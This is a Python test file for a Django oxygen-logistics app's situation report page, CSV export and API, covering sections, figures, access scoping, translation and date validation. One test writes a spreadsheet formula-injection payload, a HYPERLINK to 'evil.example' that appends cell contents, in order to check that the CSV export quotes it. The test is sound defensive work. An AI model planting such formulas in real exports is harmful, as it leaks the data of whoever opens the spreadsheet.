"""The situation report page, its CSV and its API: who sees them, what they show."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext

from oxyflow.dashboard import services
from oxyflow.sitrep import export
from tests.reporting.conftest import NOW, TODAY
from tests.sitrep.conftest import SitrepWorld, client_for

pytestmark = pytest.mark.django_db

SECTIONS = ("key-figures", "at-risk", "production", "incidents", "outlook")
DAY = TODAY.isoformat()


def page(sw: SitrepWorld, who: str = "coordinator", query: str = "", language: str = "") -> str:
    response = client_for(getattr(sw.rw.world, who), language).get(reverse("sitrep:report") + query)
    assert response.status_code == 200, response.content[:500]
    return response.content.decode()


def test_the_page_has_every_section_and_links_to_the_pdf_and_csv(sw: SitrepWorld) -> None:
    html = page(sw, query=f"?region=DZ-05&day={DAY}")
    for section in SECTIONS:
        assert f'id="{section}"' in html
    assert "Download PDF" in html
    assert "Download CSV" in html
    assert f"{reverse('sitrep:pdf')}?region=DZ-05&amp;day={DAY}" in html
    assert f"{reverse('sitrep:csv')}?region=DZ-05&amp;day={DAY}" in html
    assert 'data-site="DZ-EPH-BARIKA" data-band="critical"' in html
    assert "Road to Barika blocked by a landslide" in html
    assert 'data-notice="no-facility-reports"' not in html


def test_the_page_shows_the_dashboards_numbers(sw: SitrepWorld) -> None:
    html = page(sw, who="ministry", query="?region=DZ")
    k = services.kpis(services.resolve_scope(sw.rw.world.ministry, "DZ"), NOW, day=TODAY)
    patients = '<tr data-key="patients_on_oxygen"><th scope="row">Patients on oxygen</th>'
    assert f'{patients}<td class="num">{k.patients_on_oxygen}</td>' in html
    assert f'<td class="num">{round(k.production_nm3_per_day):,}</td>' in html


def test_the_day_defaults_to_today_in_the_regions_country(sw: SitrepWorld) -> None:
    html = page(sw)
    assert f'name="day" value="{DAY}"' in html
    assert 'data-notice="no-facility-reports"' not in html


def test_a_day_without_reports_says_so(sw: SitrepWorld) -> None:
    html = page(sw, query="?day=2021-07-01")
    assert 'data-notice="no-facility-reports"' in html
    assert "No facility has reported for" in html
    assert 'data-notice="too-few-reports"' in html


@pytest.mark.parametrize(
    ("day", "words"), [("2021-13-45", "YYYY-MM-DD"), ("2021-08-10", "in the future")]
)
def test_a_bad_day_is_a_message_not_an_error(sw: SitrepWorld, day: str, words: str) -> None:
    client = client_for(sw.rw.world.coordinator)
    response = client.get(reverse("sitrep:report") + f"?day={day}")
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()
    assert words in response.content.decode()
    for name in ("sitrep:pdf", "sitrep:csv"):
        refused = client.get(reverse(name) + f"?day={day}")
        assert refused.status_code == 400
        assert words in refused.content.decode()


def test_a_viewer_gets_the_report_of_their_district(sw: SitrepWorld) -> None:
    html = page(sw, who="viewer")
    assert "Barika" in html
    assert "CHU Batna" not in html


@pytest.mark.parametrize("who", ["outsider", "facility_staff", "producer_staff"])
@pytest.mark.parametrize("name", ["sitrep:report", "sitrep:pdf", "sitrep:csv"])
def test_users_without_a_region_get_404(sw: SitrepWorld, who: str, name: str) -> None:
    response = client_for(getattr(sw.rw.world, who)).get(reverse(name))
    assert response.status_code == 404


def test_a_region_out_of_sight_is_404(sw: SitrepWorld) -> None:
    client = client_for(sw.rw.world.coordinator)
    assert client.get(reverse("sitrep:report") + "?region=VN-70").status_code == 404
    assert client.get(reverse("sitrep:csv") + "?region=DZ-21").status_code == 404


def test_anonymous_visitors_are_sent_to_log_in(sw: SitrepWorld) -> None:
    from django.test import Client

    response = Client().get(reverse("sitrep:report"))
    assert response.status_code == 302
    assert "/login/" in response["Location"]


def test_the_arabic_page_is_right_to_left(sw: SitrepWorld) -> None:
    html = page(sw, language="ar")
    assert 'lang="ar" dir="rtl"' in html
    with translation.override("ar"):
        assert gettext("Download PDF") in html
        assert gettext("Key figures") in html


# --------------------------------------------------------------------------------- CSV


def csv_sections(content: bytes) -> dict[str, list[list[str]]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sections: dict[str, list[list[str]]] = {}
    current: list[list[str]] | None = None
    for row in rows:
        if not row:
            current = None
        elif current is None and len(row) == 1:
            current = sections.setdefault(row[0], [])
        elif current is not None:
            current.append(row)
    return sections


def test_the_csv_has_one_section_per_table_with_units_and_plain_numbers(sw: SitrepWorld) -> None:
    response = client_for(sw.rw.world.ministry).get(reverse("sitrep:csv") + f"?region=DZ&day={DAY}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="sitrep-DZ-{DAY}-en.csv"'
    sections = csv_sections(response.content)
    assert list(sections) == [
        "Daily situation report",
        "Key figures",
        "Facilities at risk",
        "Production per producer",
        "Incidents",
        "Outlook: facilities running out",
        "Outlook: facilities running out, soonest first",
        "Outlook: census projection",
    ]
    header, *figures = sections["Key figures"]
    assert header == ["Figure", "Value", "Unit", "Basis", "Key"]
    by_key = {row[4]: row for row in figures}
    k = services.kpis(services.resolve_scope(sw.rw.world.ministry, "DZ"), NOW, day=TODAY)
    assert by_key["production_nm3_per_day"][1:3] == [
        f"{k.production_nm3_per_day:.1f}",
        "Nm³/day",
    ]
    assert float(by_key["stock_nm3"][1]) == pytest.approx(k.stock_nm3, abs=0.05)
    assert by_key["patients_on_oxygen"][1] == str(k.patients_on_oxygen)
    at_risk = sections["Facilities at risk"]
    assert "Oxygen left now (h)" in at_risk[0]
    assert "Demand (Nm³/day)" in at_risk[0]
    assert [row[0] for row in at_risk[1:]] == ["DZ-EPH-BARIKA"]
    production = sections["Production per producer"]
    assert "Produced (Nm³)" in production[0]
    assert production[1][0] == "DZ-LINDE-SKIKDA"
    assert float(production[1][4]) == pytest.approx(k.production_nm3_per_day, abs=0.05)
    assert sections["Incidents"][1][4] == "Road to Barika blocked by a landslide"
    assert sections["Outlook: facilities running out"][1:] == [["1", "1"], ["2", "2"], ["3", "2"]]
    projection = sections["Outlook: census projection"]
    assert [row[0] for row in projection[1:]] == ["1", "3", "7", "Basis"]
    assert all("," not in cell for row in projection[1:4] for cell in row)


def test_the_csv_headers_are_in_the_readers_language(sw: SitrepWorld) -> None:
    response = client_for(sw.rw.world.ministry, "vi").get(reverse("sitrep:csv") + "?region=DZ")
    assert response["Content-Disposition"].endswith(f'-{DAY}-vi.csv"')
    sections = csv_sections(response.content)
    with translation.override("vi"):
        key_figures = sections[gettext("Key figures")]
        assert key_figures[0][:2] == [gettext("Figure"), gettext("Value")]
    # Numbers stay plain whatever the language (Vietnamese writes 2.386,5).
    assert all(row[1] == "" or float(row[1]) >= 0 for row in key_figures[1:])


def test_numbers_in_the_csv_are_plain() -> None:
    assert [export.number(v) for v in (None, 3, 2386.54, 0.04)] == ["", "3", "2386.5", "0.0"]


# --------------------------------------------------------------------------------- API


def test_the_api_answers_the_same_report(sw: SitrepWorld) -> None:
    client = client_for(sw.rw.world.ministry)
    response = client.get(f"/api/v1/sitrep?region=DZ&day={DAY}")
    assert response.status_code == 200, response.content
    body = response.json()
    k = services.kpis(services.resolve_scope(sw.rw.world.ministry, "DZ"), NOW, day=TODAY)
    figures = {f["key"]: f["value"] for f in body["key_figures"]}
    assert figures["production_nm3_per_day"] == pytest.approx(k.production_nm3_per_day)
    assert figures["patients_on_oxygen"] == k.patients_on_oxygen
    assert body["region"] == {"code": "DZ", "name": "Algeria", "level": "country"}
    assert [f["code"] for f in body["at_risk"]] == ["DZ-EPH-BARIKA"]
    assert body["production"]["producers"][0]["produced_nm3"] == pytest.approx(
        k.production_nm3_per_day
    )
    assert body["incidents"][0]["title"] == "Road to Barika blocked by a landslide"
    assert [w["facilities"] for w in body["outlook"]["windows"]] == [1, 2, 2]
    assert [r["ahead_days"] for r in body["outlook"]["census"]["rows"]] == [1, 3, 7]


def test_the_api_refuses_out_of_scope_regions_and_bad_days(sw: SitrepWorld) -> None:
    assert client_for(sw.rw.world.outsider).get("/api/v1/sitrep").status_code == 404
    client = client_for(sw.rw.world.coordinator)
    assert client.get("/api/v1/sitrep?region=VN-70").status_code == 404
    assert client.get("/api/v1/sitrep?day=2021-13-45").status_code == 422
    future = client.get("/api/v1/sitrep?day=2021-08-10")
    assert future.status_code == 422
    assert future.json()["detail"][0]["loc"] == ["query", "day"]


def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_csv(sw: SitrepWorld) -> None:
    from oxyflow.incidents.models import Incident

    Incident.objects.filter(pk=sw.incident.pk).update(
        title='=HYPERLINK("http://evil.example/?"&A1,"Open")'
    )
    response = client_for(sw.rw.world.ministry).get(reverse("sitrep:csv") + f"?region=DZ&day={DAY}")
    cells = [c for rows in csv_sections(response.content).values() for row in rows for c in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Open")' in cells
    assert not any(c.startswith("=") for c in cells)


@pytest.mark.parametrize("day", ["0001-01-01", "1999-12-31"])
def test_a_day_before_2000_is_refused_not_a_server_error(sw: SitrepWorld, day: str) -> None:
    client = client_for(sw.rw.world.ministry)
    page = client.get(reverse("sitrep:report") + f"?region=DZ&day={day}")
    assert page.status_code == 400
    assert "2000-01-01" in page.content.decode()
    assert client.get(f"/api/v1/sitrep?region=DZ&day={day}").status_code == 422
    assert client.get(f"/api/v1/dashboard?region=DZ&day={day}").status_code == 422
